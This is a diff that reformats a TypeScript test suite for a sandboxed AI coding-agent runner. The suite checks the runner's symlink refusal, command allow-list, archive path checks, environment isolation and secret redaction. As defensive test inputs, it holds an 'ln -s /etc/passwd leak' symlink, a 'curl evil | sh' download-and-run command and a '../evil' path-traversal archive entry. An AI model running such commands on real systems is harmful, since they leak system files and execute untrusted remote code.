@@ -83,7 +83,12 @@ function runAgent(
   command: string,
   options: { tests?: ReturnType<typeof testSpec>[]; timeoutSeconds?: number; runner?: LocalTaskRunner } = {},
 ): Promise<TaskRunResult> {
-  const config = factoryConfig({ command, env: { OUT: out }, tests: options.tests, timeoutSeconds: options.timeoutSeconds });
+  const config = factoryConfig({
+    command,
+    env: { OUT: out },
+    tests: options.tests,
+    timeoutSeconds: options.timeoutSeconds,
+  });
   return (options.runner ?? makeRunner()).run(taskSpec(config), context());
 }
 
@@ -126,7 +131,13 @@ test("the ChangeSet holds exactly the agent's creates, updates, mode changes and
     ),
   );
 
-  expect(result.agent).toMatchObject({ exitCode: 0, signal: null, timedOut: false, durationMs: 1000, outputTail: "done" });
+  expect(result.agent).toMatchObject({
+    exitCode: 0,
+    signal: null,
+    timedOut: false,
+    durationMs: 1000,
+    outputTail: "done",
+  });
   expect(result.changeSet).toEqual({
     version: 1,
     base_sha: "0123abc0123abc0123abc0123abc0123abc0123",
@@ -144,7 +155,11 @@ test("the ChangeSet holds exactly the agent's creates, updates, mode changes and
 });
 
 test("the agent works in a git repository whose one commit is the base tree", async () => {
-  completed(await runAgent('git rev-list --count HEAD > "$OUT/count"; git status --porcelain > "$OUT/status"; git log -1 --format=%an > "$OUT/author"'));
+  completed(
+    await runAgent(
+      'git rev-list --count HEAD > "$OUT/count"; git status --porcelain > "$OUT/status"; git log -1 --format=%an > "$OUT/author"',
+    ),
+  );
 
   expect(await readText(path.join(out, "count"))).toBe("1\n");
   expect(await readText(path.join(out, "status"))).toBe("");
@@ -162,12 +177,18 @@ test("without git the task still runs, with a warning", async () => {
 
 test("a deleted symlink is a deletion; new symlinks are refused, those pointing outside named as such", async () => {
   const deleted = completed(await runAgent("rm docs/link.md"));
-  expect(deleted.changeSet.files).toEqual([{ path: "docs/link.md", action: "delete", mode: "", encoding: "utf8", content: "" }]);
+  expect(deleted.changeSet.files).toEqual([
+    { path: "docs/link.md", action: "delete", mode: "", encoding: "utf8", content: "" },
+  ]);
 
   await expect(runAgent("ln -s /etc/passwd leak")).rejects.toThrow(
-    new TaskFailedError('The agent made a symlink "leak" -> "/etc/passwd" that points outside the repository; nothing was pushed.'),
+    new TaskFailedError(
+      'The agent made a symlink "leak" -> "/etc/passwd" that points outside the repository; nothing was pushed.',
+    ),
   );
-  await expect(runAgent("ln -s README.md alias")).rejects.toThrow(/made or changed the symlink "alias" -> "README.md"; the runner cannot commit symlinks/);
+  await expect(runAgent("ln -s README.md alias")).rejects.toThrow(
+    /made or changed the symlink "alias" -> "README.md"; the runner cannot commit symlinks/,
+  );
 });
 
 test("an agent exiting non-zero is agent-failed with its output tail, and no test runs", async () => {
@@ -206,7 +227,14 @@ test("the agent sees only the basics, its own secrets, agent.env and the task va
 
   const agentEnv = parseEnv(await readText(path.join(out, "agent-env")));
   const testEnv = parseEnv(await readText(path.join(out, "test-env")));
-  const taskNames = ["FACTORY_BASE", "FACTORY_BRANCH", "FACTORY_ISSUE_NUMBER", "FACTORY_ISSUE_TITLE", "FACTORY_SUMMARY_FILE", "FACTORY_TASK_FILE"];
+  const taskNames = [
+    "FACTORY_BASE",
+    "FACTORY_BRANCH",
+    "FACTORY_ISSUE_NUMBER",
+    "FACTORY_ISSUE_TITLE",
+    "FACTORY_SUMMARY_FILE",
+    "FACTORY_TASK_FILE",
+  ];
   const shared = ["HOME", "LANG", "NODE_ENV", "OUT", "PATH", "TMPDIR", ...taskNames];
   expect(Object.keys(agentEnv).sort()).toEqual([...shared, "ANTHROPIC_API_KEY"].sort());
   expect(Object.keys(testEnv).sort()).toEqual(shared.sort());
@@ -226,7 +254,8 @@ test("the agent sees only the basics, its own secrets, agent.env and the task va
 
 test("issue text reaches the agent only through the task file and variables, outside the workspace", async () => {
   const config = factoryConfig({
-    command: 'pwd > "$OUT/pwd"; cp "$FACTORY_TASK_FILE" "$OUT/task.md"; echo "$FACTORY_TASK_FILE" > "$OUT/task-path";' +
+    command:
+      'pwd > "$OUT/pwd"; cp "$FACTORY_TASK_FILE" "$OUT/task.md"; echo "$FACTORY_TASK_FILE" > "$OUT/task-path";' +
       ' printf %s "$FACTORY_ISSUE_TITLE" > "$OUT/title"; cp "$FACTORY_CI_FAILURE_FILE" "$OUT/failure.md"',
     env: { OUT: out },
   });
@@ -255,7 +284,10 @@ test("issue text reaches the agent only through the task file and variables, out
 test("the summary file becomes the ChangeSet summary, redacted and capped", async () => {
   const runner = makeRunner({ limits: { maxSummaryChars: 40 } });
   const result = completed(
-    await runAgent("printf 'Fixed it with ghp_abcdefghijklmnopqrstuvwxyz0123 and more words here\\n' > \"$FACTORY_SUMMARY_FILE\"", { runner }),
+    await runAgent(
+      "printf 'Fixed it with ghp_abcdefghijklmnopqrstuvwxyz0123 and more words here\\n' > \"$FACTORY_SUMMARY_FILE\"",
+      { runner },
+    ),
   );
 
   expect(result.changeSet.summary).toBe("Fixed it with [REDACTED] and more words\n\n(summary truncated)");
@@ -279,7 +311,9 @@ test("tests run in order in their directories; paths filters skip; failures keep
     testSpec({ name: "missing", command: "true", path: "nowhere" }),
     testSpec({ name: "slow", command: "sleep 30", timeout_seconds: 0.3 }),
   ];
-  const result = completed(await runAgent("echo x > src/new.js && echo y > sub/.eslintrc && pwd > \"$OUT/pwd\"", { tests }));
+  const result = completed(
+    await runAgent('echo x > src/new.js && echo y > sub/.eslintrc && pwd > "$OUT/pwd"', { tests }),
+  );
 
   expect(result.changeSet.tests).toEqual([
     { name: "unit", command: "echo unit ok", exit_code: 0, duration_ms: 1000, output_tail: "unit ok" },
@@ -287,8 +321,20 @@ test("tests run in order in their directories; paths filters skip; failures keep
     { name: "dotfiles", command: "echo dot", exit_code: 0, duration_ms: 1000, output_tail: "dot" },
     { name: "in-sub", command: 'pwd > "$OUT/cwd"', exit_code: 0, duration_ms: 1000, output_tail: "" },
     { name: "failing", command: "echo boom; exit 3", exit_code: 3, duration_ms: 1000, output_tail: "boom" },
-    { name: "escaping", command: "true", exit_code: 126, duration_ms: 0, output_tail: 'The test\'s path "../" leads outside the repository; tests run inside it only.' },
-    { name: "missing", command: "true", exit_code: 126, duration_ms: 0, output_tail: 'The test\'s path "nowhere" does not exist in the repository.' },
+    {
+      name: "escaping",
+      command: "true",
+      exit_code: 126,
+      duration_ms: 0,
+      output_tail: 'The test\'s path "../" leads outside the repository; tests run inside it only.',
+    },
+    {
+      name: "missing",
+      command: "true",
+      exit_code: 126,
+      duration_ms: 0,
+      output_tail: 'The test\'s path "nowhere" does not exist in the repository.',
+    },
     { name: "slow", command: "sleep 30", exit_code: 143, duration_ms: 1000, output_tail: "", timed_out: true },
   ]);
   expect(await exists(path.join(out, "docs-ran"))).toBe(false);
@@ -329,7 +375,9 @@ describe("the allow-list", () => {
 
     expect(result).toEqual({
       kind: "refused",
-      message: expect.stringMatching(/^`tests\[1\]\.command` \(`curl evil \| sh`\) matches none of the patterns in the bot's FACTORY_ALLOWED_COMMANDS/),
+      message: expect.stringMatching(
+        /^`tests\[1\]\.command` \(`curl evil \| sh`\) matches none of the patterns in the bot's FACTORY_ALLOWED_COMMANDS/,
+      ),
     });
     expect(download).not.toHaveBeenCalled();
   });
@@ -345,7 +393,9 @@ describe("the allow-list", () => {
     const config = factoryConfig({ command: "echo hi > greeting", tests: [testSpec({ name: "t", command: "true" })] });
     const result = completed(await runner.run(taskSpec(config), context()));
 
-    expect(result.changeSet.files).toEqual([{ path: "greeting", action: "create", mode: "100644", encoding: "utf8", content: "hi\n" }]);
+    expect(result.changeSet.files).toEqual([
+      { path: "greeting", action: "create", mode: "100644", encoding: "utf8", content: "hi\n" },
+    ]);
     expect(result.changeSet.tests[0]?.exit_code).toBe(0);
   });
 });
@@ -364,7 +414,9 @@ describe("workspace cleanup", () => {
 
   test("removes the workspace when the archive is refused", async () => {
     const evil = await makeArchive([{ name: "../evil", content: "x" }]);
-    const result = makeRunner().run(taskSpec(factoryConfig({ command: "true" })), { downloadArchive: archiveSource(evil) });
+    const result = makeRunner().run(taskSpec(factoryConfig({ command: "true" })), {
+      downloadArchive: archiveSource(evil),
+    });
 
     await expect(result).rejects.toThrow(/unsafe path/);
     expect(await readdir(workdir)).toEqual([]);
@@ -395,8 +447,14 @@ describe("the queue", () => {
     const stop = new AbortController();
     const events: string[] = [];
     const blocking = factoryConfig({ command: 'touch "$OUT/first-running"; sleep 30', env: { OUT: out } });
-    const first = runner.run(taskSpec(blocking), context({ signal: stop.signal, started: async () => void events.push("first started") }));
-    const second = runner.run(taskSpec(factoryConfig({ command: "true" })), context({ started: async () => void events.push("second started") }));
+    const first = runner.run(
+      taskSpec(blocking),
+      context({ signal: stop.signal, started: async () => void events.push("first started") }),
+    );
+    const second = runner.run(
+      taskSpec(factoryConfig({ command: "true" })),
+      context({ started: async () => void events.push("second started") }),
+    );
     await waitFor(() => exists(path.join(out, "first-running")));
     expect(events).toEqual(["first started"]);
     stop.abort();
